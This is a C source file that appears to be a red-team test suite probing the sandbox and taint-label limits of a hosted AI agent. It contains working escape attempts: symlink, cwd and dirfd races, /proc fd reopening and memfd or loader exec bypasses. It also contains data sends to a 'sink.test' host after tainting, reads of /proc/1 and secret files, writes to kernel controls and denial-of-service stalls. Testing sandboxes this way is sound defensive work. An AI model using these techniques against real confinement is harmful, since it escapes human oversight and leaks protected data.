// Attacks on a hosted agent's limits, one function each. Run by name in a workspace with src/hello.c, pre/ and scratch/:
//
//   attacks NAME        last line: VIOLATION | HELD | SKIP, and what happened
//   attacks --list      NAME STAGE BARE per line; BARE = 1: without certgate it must say VIOLATION
//
// Effects aim at src/ and at the marker files; only an oracle outside is believed for what stayed unchanged.
// Environment: RED_BARE (there is nobody to raise a label), RED_PAGE and RED_SINK ("address:port" of the two servers when bare),
// RED_HOST_PORT, RED_SECRET (a file that must be invisible), RED_ABSTRACT (an abstract socket of the host).
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/openat2.h>
#include <netdb.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

enum { HELD, VIOLATION, SKIP };
static char note[256];
static atomic_int stop;
#define SAY(...) snprintf(note, sizeof note, __VA_ARGS__)
static const char kTarget[] = "src/hello.c";

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

static int dial(const char* name, const char* port, const char* bare) {
  char host[64];
  const char* at = getenv(bare);
  if (at) {
    snprintf(host, sizeof host, "%s", at);
    char* colon = strrchr(host, ':');
    *colon = 0;
    name = host, port = colon + 1;
  }
  struct addrinfo *a, hint = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM};
  if (getaddrinfo(name, port, &hint, &a)) return errno = ENOENT, -1;
  int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (connect(s, a->ai_addr, a->ai_addrlen)) {
    int e = errno;
    close(s);
    s = -1, errno = e;
  }
  freeaddrinfo(a);
  return s;
}
static int page(void) { return dial("page.test", "80", "RED_PAGE"); }
static int sink(void) { return dial("sink.test", "9000", "RED_SINK"); }
// 0, or -1 when the raise was refused.
static int taint(void) {
  int s = page();
  if (s < 0) return -1;
  close(s);
  return 0;
}

static int writes(int fd) {
  if (fd < 0) return SAY("%s", strerror(errno)), HELD;
  int ok = write(fd, "EVIL", 4) == 4;
  SAY("write: %s", ok ? "done" : strerror(errno));
  close(fd);
  return ok ? VIOLATION : HELD;
}
static int worked(const char* what, long result) {
  SAY("%s: %s", what, result < 0 ? strerror(errno) : "done");
  return result < 0 ? HELD : VIOLATION;
}
// Exit status of a child that runs `f`; -1 = by a signal.
static int in_child(void (*f)(void)) {
  pid_t pid = fork();
  if (pid == 0) f(), _exit(99);
  int status;
  waitpid(pid, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}
static void spin(pthread_t* t, void* (*f)(void*)) {
  pthread_create(t, 0, f, 0);
  usleep(20000);  // until it runs
}
static int rounds_of(int hosted) { return getenv("RED_BARE") ? 100 * hosted : hosted; }
static void join(pthread_t t) {
  stop = 1;
  pthread_join(t, 0);
}
// Whether a descriptor that a race gave us is of a file outside scratch.
static int outside(int fd) {
  char link[64], path[4096];
  snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(link, path, sizeof path - 1);
  path[n < 0 ? 0 : n] = 0;
  return strstr(path, "/src/") != 0;
}

// --- writing -------------------------------------------------------------------------------------

static int open_write(void) { return writes(open(kTarget, O_WRONLY | O_APPEND)); }
static int creat_marker(void) { return writes(creat("src/marker", 0644)); }
static int proc_fd_reopen(void) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", open(kTarget, O_RDONLY));
  return writes(open(path, O_WRONLY | O_APPEND));
}
static int opath_reopen(void) {
  char path[64];
  snprintf(path, sizeof path, "/proc/thread-self/fd/%d", open(kTarget, O_PATH));
  return writes(open(path, O_WRONLY | O_APPEND));
}
static int opath_write(void) { return writes(open(kTarget, O_PATH | O_WRONLY)) == HELD ? HELD : VIOLATION; }
static int symlink_follow(void) {
  symlink("../src/hello.c", "scratch/link");
  return writes(open("scratch/link", O_WRONLY | O_APPEND));
}
static int dotdot(void) { return writes(open("scratch/../scratch/.././src/hello.c", O_WRONLY | O_APPEND)); }
static int tmpfile_linkat(void) {
  int fd = open("scratch", O_TMPFILE | O_RDWR, 0644);
  if (fd < 0) return SAY("O_TMPFILE: %s", strerror(errno)), SKIP;
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  return worked("linkat", linkat(AT_FDCWD, path, AT_FDCWD, "src/marker", AT_SYMLINK_FOLLOW));
}
static int rename_over(void) {
  close(creat("scratch/evil", 0644));
  return worked("rename", rename("scratch/evil", kTarget));
}
static int rename_exchange(void) {
  close(creat("scratch/evil", 0644));
  return worked("renameat2", syscall(SYS_renameat2, AT_FDCWD, "scratch/evil", AT_FDCWD, kTarget, RENAME_EXCHANGE));
}
static int rename_scratch(void) { return worked("rename", rename("scratch", "src/scratch")); }
static int link_in_and_write(void) {
  if (link(kTarget, "scratch/hard")) return SAY("link: %s", strerror(errno)), HELD;
  return writes(open("scratch/hard", O_WRONLY | O_APPEND));
}
static int make_dir(void) { return worked("mkdir", mkdir("src/marker", 0755)); }
static int unlink_file(void) { return worked("unlink", unlink("src/spare")); }
static int truncate_path(void) { return worked("truncate", truncate(kTarget, 0)); }
static int ftruncate_reader(void) {
  int fd = open(kTarget, O_RDONLY);
  long r = ftruncate(fd, 0) && fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4) ? -1 : 0;
  return worked("ftruncate", r);
}
static int mmap_reader(void) {
  int fd = open(kTarget, O_RDONLY);
  char* at = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0);
  if (at == MAP_FAILED) return worked("mmap", -1);
  return worked("mprotect", mprotect(at, 4096, PROT_READ | PROT_WRITE));
}
static int chmod_path(void) { return worked("chmod", chmod(kTarget, 0777)); }
static int fchmod_reader(void) { return worked("fchmod", fchmod(open(kTarget, O_RDONLY), 0777)); }
static int fchmod_directory(void) { return worked("fchmod", fchmod(open("src", O_RDONLY), 0777)); }
static int fchown_reader(void) { return worked("fchown", fchown(open(kTarget, O_RDONLY), -1, getgid())); }
static int fsetxattr_reader(void) {
  const long r = fsetxattr(open(kTarget, O_RDONLY), "user.evil", "x", 1, 0);
  if (r < 0 && errno == EOPNOTSUPP) return SAY("no xattrs here"), SKIP;
  return worked("fsetxattr", r);
}
static int futimens_reader(void) {
  struct timespec t[2] = {{1, 0}, {1, 0}};
  return worked("futimens", futimens(open(kTarget, O_RDONLY), t));
}
static int inode_flags(void) {
  int fd = open(kTarget, O_RDONLY), flags = 0;
  if (ioctl(fd, FS_IOC_GETFLAGS, &flags)) return SAY("no inode flags here"), SKIP;
  flags |= FS_NODUMP_FL;
  return worked("FS_IOC_SETFLAGS", ioctl(fd, FS_IOC_SETFLAGS, &flags));
}

// --- races of arguments --------------------------------------------------------------------------

static struct open_how how;
static char shared[64];
static int shared_dir, dirs[2];
static void* flip_how(void* x) {
  while (!stop) how.flags ^= O_WRONLY;
  return x;
}
static int openat2_flip(void) {
  pthread_t t;
  spin(&t, flip_how);
  int bad = 0, i;
  for (i = 0; i < rounds_of(3000) && !bad; ++i) {
    int fd = syscall(SYS_openat2, AT_FDCWD, kTarget, &how, sizeof how);
    if (fd >= 0) bad = write(fd, "EVIL", 4) == 4, close(fd);
  }
  join(t);
  return SAY("%d opens", i), bad;
}
static void* flip_path(void* x) {
  while (!stop) {
    strcpy(shared, "scratch/x");
    sched_yield();
    strcpy(shared, kTarget);
    sched_yield();
  }
  return x;
}
static int race_writes(int (*get)(void), void* (*flip)(void*), int rounds) {
  pthread_t t;
  spin(&t, flip);
  int bad = 0, got = 0, i;
  for (i = 0; i < rounds_of(rounds) && !bad; ++i) {
    int fd = get();
    if (fd < 0) continue;
    ++got;
    if (outside(fd)) bad = write(fd, "EVIL", 4) == 4;
    close(fd);
  }
  join(t);
  return SAY("%d rounds, %d opened", i, got), bad;
}
static int get_path(void) { return open(shared, O_WRONLY | O_CREAT, 0644); }
static int path_flip(void) { return race_writes(get_path, flip_path, 3000); }
static void* flip_link(void* x) {
  for (int i = 0; !stop; ++i) {
    unlink("scratch/next");
    symlink(i & 1 ? "x" : "../src/hello.c", "scratch/next");
    rename("scratch/next", "scratch/l");
  }
  return x;
}
static int get_link(void) { return open("scratch/l", O_WRONLY | O_APPEND); }
static int symlink_swap(void) {
  close(creat("scratch/x", 0644));
  return race_writes(get_link, flip_link, 1500);
}
static void* flip_cwd(void* x) {
  while (!stop) fchdir(dirs[0]), fchdir(dirs[1]);
  return x;
}
static int get_cwd(void) { return open("hello.c", O_WRONLY | O_CREAT | O_APPEND, 0644); }
static int cwd_swap(void) {
  dirs[0] = open("scratch", O_RDONLY), dirs[1] = open("src", O_RDONLY);
  return race_writes(get_cwd, flip_cwd, 3000);
}
static void* flip_dirfd(void* x) {
  while (!stop) dup2(dirs[0], shared_dir), dup2(dirs[1], shared_dir);
  return x;
}
static int get_dirfd(void) { return openat(shared_dir, "hello.c", O_WRONLY | O_CREAT | O_APPEND, 0644); }
static int dirfd_swap(void) {
  dirs[0] = open("scratch", O_RDONLY), dirs[1] = open("src", O_RDONLY), shared_dir = dup(dirs[0]);
  return race_writes(get_dirfd, flip_dirfd, 3000);
}
static void* flip_directory(void* x) {
  while (!stop) {
    rename("scratch/d", "scratch/e");
    symlink("../src", "scratch/d");
    unlink("scratch/d");
    rename("scratch/e", "scratch/d");
  }
  return x;
}
static int get_in_directory(void) { return open("scratch/d/hello.c", O_WRONLY | O_CREAT | O_APPEND, 0644); }
static int directory_swap(void) {
  mkdir("scratch/d", 0755);
  return race_writes(get_in_directory, flip_directory, 1500);
}

// --- exec ----------------------------------------------------------------------------------------

static char* const kNone[] = {0};
static char** volatile null_vector;
static void run_touch(void) {
  char* argv[] = {"false", 0};
  execve("/usr/bin/false", argv, kNone);
}
static int ran(int status, int wanted) {
  SAY("status %d", status);
  return status == wanted ? VIOLATION : HELD;
}
static int exec_program(void) { return ran(in_child(run_touch), 1); }
static void run_by_fd(void) {
  char* argv[] = {"false", 0};
  syscall(SYS_execveat, open("/usr/bin/false", O_PATH), "", argv, kNone, AT_EMPTY_PATH);
}
static int execveat_empty_path(void) { return ran(in_child(run_by_fd), 1); }
static void run_memfd(void) {
  int in = open("/usr/bin/false", O_RDONLY), out = memfd_create("x", 0);
  char buffer[65536], *argv[] = {"false", 0};
  for (ssize_t n; (n = read(in, buffer, sizeof buffer)) > 0;) write(out, buffer, n);
  syscall(SYS_execveat, out, "", argv, kNone, AT_EMPTY_PATH);
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", out);
  execve(path, argv, kNone);
}
static int memfd_exec(void) { return ran(in_child(run_memfd), 1); }
static void run_loader(void) {
  char* argv[] = {"ld.so", "/usr/bin/false", 0};
  execve("/lib64/ld-linux-x86-64.so.2", argv, kNone);
}
static int loader_launch(void) { return ran(in_child(run_loader), 1); }
static void run_scratch_script(void) {
  int fd = creat("scratch/evil.sh", 0755);
  write(fd, "#!/bin/sh\nexit 1\n", 17);
  close(fd);
  char* argv[] = {"evil.sh", 0};
  execve("scratch/evil.sh", argv, kNone);
}
static int scratch_script(void) { return ran(in_child(run_scratch_script), 1); }
static void* exec_thread(void* x) {
  run_touch();
  return x;
}
static void run_in_thread(void) {
  pthread_t t;
  pthread_create(&t, 0, exec_thread, 0);
  pthread_join(t, 0);
}
static int thread_exec(void) { return ran(in_child(run_in_thread), 1); }
static void run_vfork(void) {
  char* argv[] = {"false", 0};
  pid_t pid = vfork();
  if (pid == 0) execve("/usr/bin/false", argv, kNone), _exit(99);
  int status;
  waitpid(pid, &status, 0);
  _exit(WEXITSTATUS(status));
}
static int vfork_exec(void) { return ran(in_child(run_vfork), 1); }

static char* flip_argv[8];
static char stack[65536];
static int exec_shared(void* x) {
  execve((const char*)x, flip_argv, kNone);
  _exit(99);
}
// A child that shares our memory execs while `flip` writes its arguments.
static int race_exec(const char* path, void* (*flip)(void*), int wanted, int rounds) {
  pthread_t t;
  spin(&t, flip);
  int bad = 0, killed = 0, fine = 0, i;
  for (i = 0; i < rounds && !bad; ++i) {
    pid_t pid = clone(exec_shared, stack + sizeof stack, CLONE_VM | SIGCHLD, (void*)path);
    int status = 0;
    if (pid < 0) break;
    waitpid(pid, &status, 0);
    if (WIFSIGNALED(status)) ++killed;
    if (WIFEXITED(status) && WEXITSTATUS(status) == wanted) bad = 1;
    if (WIFEXITED(status) && WEXITSTATUS(status) != 99) ++fine;
  }
  join(t);
  return SAY("%d rounds, %d ran, %d killed by proof", i, fine, killed), bad;
}
static void* flip_exec_path(void* x) {
  while (!stop) {
    strcpy(shared, "/usr/bin/ls");
    for (int i = 0; i < 3000 && !stop; ++i) __asm__ volatile("pause");
    strcpy(shared, "/usr/bin/false");
    for (int i = 0; i < 3000 && !stop; ++i) __asm__ volatile("pause");
  }
  return x;
}
static int exec_path_flip(void) {
  flip_argv[0] = "ls", flip_argv[1] = "/nonexistent";  // ls says 2, false says 1
  strcpy(shared, "/usr/bin/ls");
  freopen("/dev/null", "w", stderr);
  return race_exec(shared, flip_exec_path, 1, 150);
}
static void* flip_exec_argv(void* x) {
  while (!stop) {
    flip_argv[1] = "status";
    for (int i = 0; i < 3000 && !stop; ++i) __asm__ volatile("pause");
    flip_argv[1] = "version";
    for (int i = 0; i < 3000 && !stop; ++i) __asm__ volatile("pause");
  }
  return x;
}
static int exec_argv_flip(void) {
  flip_argv[0] = "git", flip_argv[1] = "status";  // outside a repository: 128; version says 0
  freopen("/dev/null", "w", stderr);
  freopen("/dev/null", "w", stdout);
  int r = race_exec("/usr/bin/git", flip_exec_argv, 0, 120);
  return r;
}

static void* stop_storm(void* x) {
  pid_t child = *(pid_t*)x;
  while (!stop) kill(child, SIGSTOP), sched_yield(), kill(child, SIGCONT), kill(child, SIGUSR1);
  return x;
}
static void exec_true(void) {
  char* argv[] = {"ls", "/nonexistent", 0};
  signal(SIGUSR1, SIG_IGN);
  for (int i = 0; i < 100; ++i) syscall(SYS_execve, "/nonexistent", argv, kNone);
  execve("/usr/bin/ls", argv, kNone);
}
// Signals and stops around the one stop of an exec must neither lose it nor hold up anybody else's.
static int exec_under_stops(void) {
  freopen("/dev/null", "w", stderr);
  int lost = 0;
  for (int i = 0; i < 20; ++i) {
    static pid_t pid;
    pid = fork();
    if (pid == 0) exec_true(), _exit(99);
    pthread_t t;
    stop = 0;
    pthread_create(&t, 0, stop_storm, &pid);
    usleep(15000);
    stop = 1;
    pthread_join(t, 0);
    kill(pid, SIGCONT);
    int status = 0, waited = 0;
    for (; waited < 300 && waitpid(pid, &status, WNOHANG) == 0; ++waited) usleep(10000);
    if (waited == 300) kill(pid, SIGKILL), waitpid(pid, &status, 0), ++lost;
    if (in_child(exec_true) != 2) return SAY("another exec did not get through"), VIOLATION;
  }
  return SAY("%d execs hung", lost), lost ? VIOLATION : HELD;
}

// --- handles that outlive the raise (these begin clean) ---------------------------------------------

static int held(int fd_after, int refused) {
  if (refused) return SAY("the fetch was refused: %s", strerror(errno)), HELD;
  return writes(fd_after);
}
static int held_in_flight(void) {
  int pair[2], fd = open("pre/held", O_CREAT | O_WRONLY, 0644);
  socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
  char byte = 0, control[CMSG_SPACE(sizeof(int))] = {0};
  struct iovec iov = {&byte, 1};
  struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr* c = CMSG_FIRSTHDR(&m);
  c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS, c->cmsg_len = CMSG_LEN(sizeof(int));
  memcpy(CMSG_DATA(c), &fd, sizeof fd);
  sendmsg(pair[0], &m, 0);
  close(fd);
  int refused = taint();
  int e = errno;
  recvmsg(pair[1], &m, 0);
  memcpy(&fd, CMSG_DATA(c), sizeof fd);
  errno = e;
  return held(fd, refused);
}
static int held_mapping(void) {
  int fd = open("pre/held", O_CREAT | O_RDWR, 0644);
  ftruncate(fd, 4096);
  char* at = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  close(fd);
  if (taint()) return SAY("the fetch was refused"), HELD;
  memcpy(at, "EVIL", 4);
  return SAY("written"), VIOLATION;
}
static int held_by_child(void) {
  int fd = open("pre/held", O_CREAT | O_WRONLY, 0644), go[2], end[2];
  pipe(go), pipe(end);
  if (fork() == 0) {
    char c;
    read(go[0], &c, 1);
    char ok = write(fd, "EVIL", 4) == 4;
    write(end[1], &ok, 1);
    _exit(0);
  }
  close(fd);
  if (taint()) return SAY("the fetch was refused"), HELD;
  char ok = 0;
  write(go[1], "x", 1);
  read(end[0], &ok, 1);
  return SAY("the child wrote: %d", ok), ok ? VIOLATION : HELD;
}
static int held_fifo(void) {
  mkfifo("pre/fifo", 0644);
  int fd = open("pre/fifo", O_RDWR);
  return held(fd, taint());
}
static int released_fifo(void) {
  mkfifo("pre/fifo", 0644);
  close(open("pre/fifo", O_RDWR));
  return taint() ? (SAY("a closed FIFO still stops the fetch"), VIOLATION) : HELD;
}
static int held_link(void) {
  if (link(kTarget, "scratch/hard")) return SAY("link: %s", strerror(errno)), HELD;
  if (taint()) return SAY("%s", strerror(errno)), SKIP;
  return writes(open("scratch/hard", O_WRONLY | O_APPEND));
}
static int connection_dup(void) {
  int s = sink(), d = dup(s);
  if (s < 0) return SAY("sink: %s", strerror(errno)), SKIP;
  write(s, "before;", 7);
  close(s);
  if (taint()) return HELD;
  usleep(20000);
  signal(SIGPIPE, SIG_IGN);
  int sent = 0;
  for (int i = 0; i < 20; ++i) sent += write(d, "AFTER;", 6) == 6, usleep(1000);
  return SAY("%d sends accepted", sent), sent > 1 ? VIOLATION : HELD;
}
static atomic_int tainted_now;
enum { kConnectors = 6 };
static atomic_int connecting[kConnectors];
static struct addrinfo* sink_address;
static void* connect_loop(void* slot) {
  atomic_int* mine = slot;
  while (!stop && !tainted_now) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    *mine = s;
    connect(s, sink_address->ai_addr, sink_address->ai_addrlen);
    if (tainted_now) usleep(50000);
    *mine = 0;
    close(s);
  }
  return 0;
}
static void* send_loop(void* x) {
  for (int i = 0; !stop; i = (i + 1) % kConnectors) {
    int s = connecting[i];
    if (tainted_now && s > 0) send(s, "AFTER;", 6, MSG_NOSIGNAL | MSG_DONTWAIT);
  }
  return x;
}
static void* refused_loop(void* x) {
  while (!stop) rename("scratch/none", "src/none"), open("/etc/none", O_WRONLY | O_CREAT, 0644), unlink("src/hello.c/");
  return x;
}
// Sends on a socket while its connect is still under way, from the moment the label has risen. Only the sink can tell.
static int connect_race(void) {
  struct addrinfo hint = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM};
  if (getaddrinfo("sink.test", "9000", &hint, &sink_address)) return SAY("no sink"), SKIP;
  pthread_t t;
  for (int i = 0; i < kConnectors; ++i) pthread_create(&t, 0, connect_loop, &connecting[i]);
  pthread_create(&t, 0, send_loop, 0);
  pthread_create(&t, 0, refused_loop, 0);
  usleep(4000);
  if (taint()) return SAY("no page"), SKIP;
  tainted_now = 1;
  usleep(60000);
  stop = 1;
  usleep(60000);
  return HELD;
}
static void* open_loop(void* x) {
  while (!stop) {
    int fd = open("pre/race", O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd < 0) continue;
    if (tainted_now) write(fd, "EVIL", 4);
    close(fd);
  }
  return x;
}
static int open_race(void) {
  pthread_t t[2];
  spin(&t[0], open_loop), spin(&t[1], open_loop);
  int tries = 0;
  while (taint() && tries < 300) ++tries;
  tainted_now = tries < 300;
  usleep(50000);
  join(t[0]), join(t[1]);
  return SAY("%d fetches refused before one passed", tries), HELD;
}

// --- ways out --------------------------------------------------------------------------------------

static struct sockaddr_in loopback(void) {
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(getenv("RED_HOST_PORT")))};
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return a;
}
static int sends(int s, const char* what) {
  return worked(what, send(s, "AFTER;", 6, MSG_NOSIGNAL));
}
static int host_loopback(void) {
  struct sockaddr_in a = loopback();
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (struct sockaddr*)&a, sizeof a)) return worked("connect", -1);
  return sends(s, "send");
}
static int host_loopback_v6(void) {
  struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = loopback().sin_port};
  inet_pton(AF_INET6, "::ffff:127.0.0.1", &a.sin6_addr);
  int s = socket(AF_INET6, SOCK_STREAM, 0);
  if (s < 0 || connect(s, (struct sockaddr*)&a, sizeof a)) return worked("connect", -1);
  return sends(s, "send");
}
static int udp_out(void) {
  struct sockaddr_in a = loopback();
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  sendto(s, "AFTER;", 6, 0, (struct sockaddr*)&a, sizeof a);
  if (connect(s, (struct sockaddr*)&a, sizeof a) == 0) send(s, "AFTER;", 6, 0);
  a.sin_addr.s_addr = inet_addr("192.0.2.1");
  sendto(s, "AFTER;", 6, 0, (struct sockaddr*)&a, sizeof a);
  return HELD;  // the listener outside decides
}
static int fast_open(void) {
  struct sockaddr_in a = loopback();
  int s = socket(AF_INET, SOCK_STREAM, 0);
  return worked("MSG_FASTOPEN", sendto(s, "AFTER;", 6, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr*)&a, sizeof a));
}
static int fast_open_connect(void) {
  int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9000)};
  a.sin_addr.s_addr = inet_addr("198.51.100.7");
  setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
  if (connect(s, (struct sockaddr*)&a, sizeof a)) return worked("connect", -1);
  return sends(s, "send");
}
static int unspec(void) {
  int s = page();
  struct sockaddr a = {.sa_family = AF_UNSPEC};
  connect(s, &a, sizeof a);
  struct sockaddr_in to = loopback();
  if (connect(s, (struct sockaddr*)&to, sizeof to)) return worked("connect", -1);
  return sends(s, "send");
}
static int late_sink(void) {
  int s = sink();
  return s < 0 ? worked("connect", -1) : sends(s, "send");
}
static int odd_sockets(void) {
  const int kinds[][3] = {{AF_INET, SOCK_RAW, IPPROTO_TCP}, {AF_PACKET, SOCK_RAW, 0}, {AF_UNIX, SOCK_DGRAM, 0}, {40, SOCK_STREAM, 0},
                          {AF_NETLINK, SOCK_RAW, 9}, {AF_INET | 0x100, SOCK_STREAM, 0}, {38, SOCK_SEQPACKET, 0}};
  for (size_t i = 0; i < sizeof kinds / sizeof *kinds; ++i)
    if (socket(kinds[i][0], kinds[i][1], kinds[i][2]) >= 0) return SAY("socket %zu", i), VIOLATION;
  return HELD;
}
static int connect_unix(const char* name, int abstract) {
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path + abstract, name, sizeof a.sun_path - 2);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  socklen_t size = offsetof(struct sockaddr_un, sun_path) + abstract + strlen(name) + !abstract;
  if (connect(s, (struct sockaddr*)&a, size)) return worked("connect", -1);
  return sends(s, "send");
}
static int host_unix_socket(void) { return connect_unix("host.sock", 0); }
static int host_unix_by_fd(void) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", open("host.sock", O_PATH));
  return connect_unix(path, 0);
}
static int host_abstract_socket(void) { return connect_unix(getenv("RED_ABSTRACT"), 1); }
static int secret_file(void) { return worked("open", open(getenv("RED_SECRET"), O_RDONLY)); }
static int init_internals(void) {
  const char* names[] = {"environ", "maps", "mem", "root/etc/passwd", "cwd", "fd/0", "fd/3", "fd/4", "fd/5", "exe", "auxv", "syscall"};
  for (size_t i = 0; i < sizeof names / sizeof *names; ++i) {
    char path[64];
    snprintf(path, sizeof path, "/proc/1/%s", names[i]);
    if (open(path, O_RDONLY | O_NONBLOCK) >= 0) return SAY("%s opened", path), VIOLATION;
  }
  return HELD;
}
static int kernel_controls(void) {
  const char* names[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger", "/proc/self/mem",
                         "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper"};
  for (size_t i = 0; i < sizeof names / sizeof *names; ++i)
    if (open(names[i], O_WRONLY) >= 0) return SAY("%s opened", names[i]), VIOLATION;
  return HELD;
}
static int write_system(void) {
  const char* names[] = {"/etc/evil", "/usr/bin/evil", "/evil", "/proc/1/evil"};
  for (size_t i = 0; i < sizeof names / sizeof *names; ++i)
    if (open(names[i], O_WRONLY | O_CREAT, 0644) >= 0) return SAY("%s made", names[i]), VIOLATION;
  return HELD;
}
static int forbidden_calls(void) {
  const long calls[] = {SYS_ptrace, SYS_process_vm_writev, SYS_mount, SYS_unshare, SYS_setns, SYS_bpf, SYS_userfaultfd,
                        SYS_io_uring_setup, SYS_pidfd_getfd, SYS_seccomp, SYS_open_by_handle_at, SYS_chroot, SYS_keyctl};
  for (size_t i = 0; i < sizeof calls / sizeof *calls; ++i)
    if (syscall(calls[i], 0, 0, 0, 0, 0, 0) >= 0 || (errno != EPERM && errno != ENOSYS)) return SAY("call %ld: %s", calls[i], strerror(errno)), VIOLATION;
  return HELD;
}

// --- denial and hostile input ------------------------------------------------------------------------

static void* wait_in_fifo(void* x) { return close(open("/tmp/fifo", O_RDONLY)), x; }
static int open_within(double limit) {
  double start = now();
  for (int i = 0; i < 50; ++i) close(open("/etc/passwd", O_RDONLY));
  double took = now() - start;
  SAY("50 opens took %.3f s", took);
  return took > limit ? VIOLATION : HELD;
}
static int fifo_stall(void) {
  mkfifo("/tmp/fifo", 0600);
  pthread_t t;
  for (int i = 0; i < 64; ++i) pthread_create(&t, 0, wait_in_fifo, 0);
  usleep(100000);
  return open_within(1);
}
static void* open_leased(void* x) { return close(open("/tmp/leased", O_RDONLY)), x; }
static int lease_stall(void) {
  close(creat("/tmp/leased", 0600));
  int fd = open("/tmp/leased", O_RDONLY);
  signal(SIGIO, SIG_IGN);
  fcntl(fd, F_SETLEASE, F_WRLCK);
  pthread_t t;
  pthread_create(&t, 0, open_leased, 0);
  usleep(100000);
  return open_within(1);
}
static void* open_many(void* x) {
  for (int i = 0; i < 100; ++i) close(open("/etc/passwd", O_RDONLY));
  return x;
}
static int opens_at_once(void) {
  pthread_t t[64];
  double start = now();
  for (int i = 0; i < 64; ++i) pthread_create(&t[i], 0, open_many, 0);
  for (int i = 0; i < 64; ++i) pthread_join(t[i], 0);
  SAY("6400 opens took %.2f s", now() - start);
  return now() - start > 10 ? VIOLATION : HELD;
}
static void* blocked_connect(void* x) {
  struct sockaddr_in a = loopback();
  a.sin_port = htons(1999);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  return connect(s, (struct sockaddr*)&a, sizeof a), x;
}
static int blocked_connects(void) {
  struct sockaddr_in a = loopback();
  a.sin_port = htons(1999);
  int l = socket(AF_INET, SOCK_STREAM, 0);
  bind(l, (struct sockaddr*)&a, sizeof a);
  listen(l, 0);
  pthread_t t;
  for (int i = 0; i < 200; ++i) pthread_create(&t, 0, blocked_connect, 0);
  usleep(200000);
  return open_within(1);
}
static int hostile_arguments(void) {
  static const long calls[] = {SYS_open, SYS_openat, SYS_openat2, SYS_creat, SYS_execve, SYS_execveat, SYS_connect, SYS_bind, SYS_rename,
                               SYS_renameat2, SYS_linkat, SYS_symlinkat, SYS_unlinkat, SYS_mkdirat, SYS_mknodat, SYS_truncate, SYS_fchmodat,
                               SYS_fchownat, SYS_utimensat, SYS_setxattr, SYS_removexattr, SYS_fchmod, SYS_fchown, SYS_fsetxattr,
                               SYS_fremovexattr, SYS_utime, SYS_futimesat};
  static char text[8192];
  memset(text, 'a', sizeof text - 1);
  int s = socket(AF_INET, SOCK_STREAM, 0), i;
  int n = socket(AF_NETLINK, SOCK_RAW, 0), u = socket(AF_UNIX, SOCK_STREAM, 0);
  unsigned seed = 7;
  for (i = 0; i < 4000; ++i) {
    long a[6];
    for (int k = 0; k < 6; ++k) {
      const long odd[] = {0, -1, (long)text, (long)text + sizeof text - 3, (long)"", (long)"\xff\xfe\x1b[31m\n", (long)"/proc/self/fd/99", s, n, u,
                          AT_FDCWD, 1, 24, 128, 4096, 1L << 40, 0x7fffffffffffL, rand_r(&seed), (long)"scratch/\x1b]0;x\x07", (long)".."};
      a[k] = odd[rand_r(&seed) % (sizeof odd / sizeof *odd)];
    }
    const long r = syscall(calls[rand_r(&seed) % (sizeof calls / sizeof *calls)], a[0], a[1], a[2], a[3], a[4], a[5]);
    if (r > 20) close(r);
  }
  return open_within(1) == HELD ? (SAY("%d calls", i), HELD) : VIOLATION;
}
static int bad_pointers(void) {
  const char* volatile bad_path = (const char*)8;
  if (open((char*)8, O_RDONLY) >= 0 || errno != EFAULT) return SAY("open: %s", strerror(errno)), VIOLATION;
  if (!connect(socket(AF_INET, SOCK_STREAM, 0), (void*)8, 16) || errno != EFAULT) return SAY("connect: %s", strerror(errno)), VIOLATION;
  if (!execve(bad_path, null_vector, null_vector) || errno != EFAULT) return SAY("execve: %s", strerror(errno)), VIOLATION;
  if (!rename("scratch", (char*)8) || errno != EFAULT) return SAY("rename: %s", strerror(errno)), VIOLATION;
  return HELD;
}
static void exec_ten_thousand(void) {
  static char* argv[10002];
  for (int i = 0; i < 10000; ++i) argv[i] = "x";
  execve("/usr/bin/false", argv, kNone);
}
